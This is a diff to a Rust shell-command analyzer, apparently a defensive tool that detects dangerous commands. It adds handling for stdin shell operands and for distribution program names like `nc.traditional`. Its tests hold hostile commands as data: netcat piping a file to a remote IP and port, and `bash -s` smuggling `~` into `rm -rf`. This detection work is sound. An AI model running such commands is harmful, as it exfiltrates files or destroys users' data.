@@ -210,6 +210,25 @@ pub fn shell_invocation(cmd: &Command) -> Option<ShellInvocation<'_>> {
     }
 }
 
+/// The operands of a shell that reads its script from stdin (`bash -s -- A B`): its `$1`, `$2`, ….
+fn stdin_shell_operands(args: &[Word]) -> Vec<Word> {
+    let mut i = 0;
+    while let Some(a) = args.get(i).map(|w| w.text.as_str()) {
+        if a == "--" || a == "-" {
+            i += 1;
+            break;
+        }
+        if !((a.starts_with('-') || a.starts_with('+')) && a.len() > 1) {
+            break;
+        }
+        // `-o OPTION`, `--rcfile FILE` take a value.
+        let takes_value = matches!(a, "--rcfile" | "--init-file")
+            || (!a.starts_with("--") && (a.ends_with('o') || a.ends_with('O')));
+        i += 1 + usize::from(takes_value);
+    }
+    args.get(i..).map(<[Word]>::to_vec).unwrap_or_default()
+}
+
 /// `sudo -i`, `sudo -s`, `su`, `su - root`, `sudo su -`: a shell for another user with no command
 /// of its own, so it runs whatever arrives on its standard input.
 fn root_shell_reading_stdin(cmd: &Command) -> bool {
@@ -1073,6 +1092,12 @@ impl Walker {
             let dir_len = w.text.len() - written_base.len();
             w.text = format!("{}{program}", &w.text[..dir_len]);
         }
+        // `nc.traditional`, `/usr/bin/vim.basic`: a distribution's name for the program.
+        if let Some(program) = super::sinks::table().program_variant(base_name(&w.text)) {
+            let raw = w.text.clone();
+            w.text = program.to_string();
+            return Some(raw);
+        }
         let base = base_name(&w.text).to_string();
         // `/???/b??h`, `/usr/bin/cu?l`: an unquoted glob in the program name expands to the
         // installed program it matches — judged as the most dangerous one it can match.
@@ -1441,7 +1466,11 @@ impl Walker {
             Some(ShellInvocation::Stdin) => {
                 if let Some(text) = &cmd.stdin_text {
                     let text = text.clone();
+                    // `bash -s ~ <<< 'rm -rf "$1"'`: the words after the options are $1, $2, …
+                    let operands = stdin_shell_operands(args);
+                    self.inject_positional = (!operands.is_empty()).then_some(operands);
                     self.nested_code(&text, Origin::Heredoc);
+                    self.inject_positional = None;
                 }
             }
             Some(ShellInvocation::Script(f)) => {
@@ -2173,5 +2202,25 @@ mod spliced_name_tests {
         assert_eq!(strip_variable_references("r$u_m"), "r");
         assert_eq!(strip_variable_references("${x:-a}b"), "${x:-a}b");
         assert_eq!(strip_variable_references("python3"), "python3");
+    }
+}
+
+#[cfg(test)]
+mod program_name_tests {
+    #[test]
+    fn distribution_names_are_the_program_and_stdin_shells_get_their_operands() {
+        let s = crate::shell::analyze("/bin/nc.traditional 198.51.100.23 4444 < f; vim.basic x");
+        let names: Vec<&str> = s.commands.iter().map(|c| c.name()).collect();
+        assert_eq!(names, vec!["nc", "vim"]);
+        let s = crate::shell::analyze("bash -s -- ~ <<< 'rm -rf \"$1\"'");
+        assert!(s
+            .commands
+            .iter()
+            .any(|c| c.name() == "rm" && c.args().iter().any(|a| a.text == "~")));
+        let s = crate::shell::analyze("bash -s -x build <<< 'rm -rf \"$1\"'");
+        assert!(s
+            .commands
+            .iter()
+            .any(|c| c.name() == "rm" && c.args().iter().any(|a| a.text == "build")));
     }
 }
